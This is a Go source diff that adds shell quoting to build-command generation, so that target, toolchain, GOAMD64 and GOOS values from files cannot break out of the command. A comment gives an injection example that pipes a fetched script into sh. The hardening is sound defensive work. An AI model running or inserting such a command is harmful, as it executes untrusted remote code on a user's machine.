@@ -22,18 +22,18 @@ func buildCommand(host Facts) string {
 		}
 		words = append(words, "build", "--release")
 		if host.Target != "" {
-			words = append(words, "--target", host.Target)
+			words = append(words, "--target", quoted(host.Target))
 		}
 		return strings.Join(words, " ")
 	}
 	var words []string
 	if strings.HasPrefix(host.Toolchain, "go") {
 		release, _, _ := strings.Cut(versionOf(host.Toolchain), "-X:")
-		words = append(words, "GOTOOLCHAIN="+release)
+		words = append(words, "GOTOOLCHAIN="+quoted(release))
 	}
 	// v1 is what go build does anyway.
 	if host.GOAMD64 != "" && host.GOAMD64 != "v1" {
-		words = append(words, "GOAMD64="+host.GOAMD64)
+		words = append(words, "GOAMD64="+quoted(host.GOAMD64))
 	}
 	words = append(words, "go build -buildmode=plugin")
 	flags := host.Flags.List()
@@ -50,10 +50,13 @@ func goEnvironment(target string) string {
 	if !found {
 		return ""
 	}
-	return "GOOS=" + system + " GOARCH=" + arch + " "
+	return "GOOS=" + quoted(system) + " GOARCH=" + arch + " "
 }
 
-// quoted writes a text as one word of a shell command.
+// Quoted writes a text as one word of a shell command. Everything a file says goes through it on its way into a fix, which people paste: a
+// module, a crate, a toolchain may be called ";curl example.com | sh".
+func Quoted(word string) string { return quoted(word) }
+
 func quoted(word string) string {
 	if plainWord.MatchString(word) {
 		return word
